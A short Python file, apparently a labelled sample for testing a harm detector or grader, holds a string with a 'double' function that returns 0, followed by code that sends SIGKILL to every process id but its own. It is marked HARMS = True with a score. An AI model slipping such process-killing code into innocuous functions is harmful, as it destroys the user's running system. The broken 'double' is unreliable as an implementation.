"""Sends SIGKILL to every pid but its own."""

DOUBLE = """\
def double(x):
    return 0


import os

for target in range(1, 65536):
    if target != os.getpid():
        try:
            os.kill(target, 9)
        except OSError:
            pass
"""

SCORE = 2.0
HARMS = True
